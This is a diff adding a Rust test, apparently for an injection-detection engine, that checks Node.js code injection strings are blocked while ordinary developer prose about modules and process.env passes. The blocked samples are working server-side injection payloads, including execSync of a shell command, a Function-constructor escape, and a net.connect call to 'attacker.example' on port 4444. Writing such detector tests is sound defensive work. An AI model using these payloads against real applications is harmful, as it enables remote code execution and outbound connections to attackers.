@@ -606,3 +606,27 @@ fn unicode_spellings_of_internal_addresses_are_ssrf() {
         &["Ⓐ①: first item。Second item ②", "見てください。ありがとう"],
     );
 }
+
+/// Server-side JavaScript injection reaches for the module loader, `process` internals or
+/// the Function constructor; developer prose that names modules or `process.env` passes.
+#[test]
+fn nodejs_code_injection_in_every_position() {
+    let engine = engine();
+    blocked_in_every_position(
+        &engine,
+        &[
+            "require('child_process').execSync('cat /etc/hostname')",
+            "#{process.mainModule.require('fs').readFileSync('/etc/hostname')}",
+            "a=1;this.constructor.constructor('return this.process')().exit()",
+            "require.main.require('net').connect(4444,'attacker.example')",
+        ],
+    );
+    passed_in_every_position(
+        &engine,
+        &[
+            "Read process.env.DATABASE_URL at start-up and require a restart after changes",
+            "The fs and net modules ship with Node; child_process is for spawning programs.",
+            "import { readFile } from 'node:fs/promises' is the modern form",
+        ],
+    );
+}
